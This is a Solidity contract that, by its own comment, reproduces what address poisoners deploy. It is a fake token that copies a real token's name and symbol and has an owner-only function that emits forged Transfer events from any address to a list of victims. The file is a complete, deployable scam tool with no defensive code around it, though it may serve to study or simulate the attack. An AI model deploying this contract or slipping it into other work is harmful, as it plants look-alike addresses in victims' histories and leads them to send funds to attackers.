// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @notice What address poisoners deploy: a token that copies a real one's name and lets its owner write Transfer
/// events between any two addresses, so a look-alike shows up in a victim's history without holding a key.
contract PoisonToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    address private immutable owner;

    constructor(string memory tokenName, string memory tokenSymbol) {
        name = tokenName;
        symbol = tokenSymbol;
        owner = msg.sender;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function announce(address from, address[] calldata to, uint256 value) external {
        require(msg.sender == owner, "not owner");
        for (uint256 i = 0; i < to.length; i++) emit Transfer(from, to[i], value);
    }
}
